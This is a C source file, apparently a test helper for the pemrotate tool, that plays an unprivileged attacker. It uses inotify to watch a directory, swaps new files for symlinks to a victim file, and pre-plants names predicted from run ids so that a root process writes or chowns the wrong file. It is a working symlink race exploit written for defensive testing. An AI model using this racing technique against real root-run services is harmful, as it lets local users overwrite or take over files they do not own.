/*
 * racer.c: the attacker of tests/integration/t_70_trust.sh -- a user who
 * owns a directory pemrotate works in (an agent's certificate directory,
 * PostgreSQL's data directory) and races it with inotify to make root write
 * or chown another file, the victim.
 *
 *   racer DIR VICTIM SECONDS [BASENAME...]
 *
 * Runs as that user.  Whenever a name appears in DIR (created or renamed
 * there), the racer moves the file aside and puts a symbolic link to
 * VICTIM under its name; whenever a name goes away, a link to VICTIM takes
 * its place.  When pemrotate's probe file shows a run id, the names the
 * run id made predictable (.BASENAME.pemrotate-RUN, .pemrotate-restore)
 * are planted in advance.  Prints what it did, one line an action.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *victim;
static unsigned aside;

static int
ours(const char *name)
{
	return strncmp(name, ".racer-", 7) == 0;
}

static void
plant(const char *name)
{
	if (symlink(victim, name) == 0)
		printf("planted %s\n", name);
}

static void
swap(const char *name)
{
	char to[64];
	struct stat st;

	if (lstat(name, &st) != 0 || S_ISLNK(st.st_mode))
		return;
	snprintf(to, sizeof(to), ".racer-%u", aside++);
	if (rename(name, to) == 0) {
		printf("swapped %s\n", name);
		plant(name);
	}
}

/* An old-style probe name: plant the names its run id predicts. */
static void
predict(const char *name, char **bases, int nbases)
{
	const char *run = name + strlen(".pemrotate-probe-");
	char buf[NAME_MAX + 1];
	int i;

	for (i = 0; i < nbases; i++) {
		snprintf(buf, sizeof(buf), ".%s.pemrotate-%s", bases[i], run);
		plant(buf);
	}
	plant(".pemrotate-restore");
}

int
main(int argc, char **argv)
{
	char buf[64 * 1024] __attribute__((aligned(8)));
	struct pollfd pfd;
	time_t end;
	ssize_t n;
	int fd;

	if (argc < 4) {
		fprintf(stderr, "usage: racer DIR VICTIM SECONDS [BASE...]\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	victim = argv[2];
	end = time(NULL) + atoi(argv[3]);
	if (chdir(argv[1]) != 0 || (fd = inotify_init1(IN_NONBLOCK)) < 0 ||
	    inotify_add_watch(fd, ".", IN_CREATE | IN_MOVED_TO | IN_DELETE |
	    IN_MOVED_FROM) < 0) {
		perror(argv[1]);
		return 1;
	}
	printf("watching %s\n", argv[1]);
	pfd.fd = fd;
	pfd.events = POLLIN;
	while (time(NULL) < end) {
		if (poll(&pfd, 1, 200) <= 0)
			continue;
		while ((n = read(fd, buf, sizeof(buf))) > 0) {
			char *p = buf;

			while (p < buf + n) {
				struct inotify_event *ev = (void *)p;

				p += sizeof(*ev) + ev->len;
				if (ev->len == 0 || ours(ev->name))
					continue;
				if (strncmp(ev->name, ".pemrotate-probe-", 17)
				    == 0 && (ev->mask & IN_CREATE))
					predict(ev->name, argv + 4, argc - 4);
				if (ev->mask & (IN_CREATE | IN_MOVED_TO))
					swap(ev->name);
				else
					plant(ev->name);
			}
		}
	}
	return 0;
}
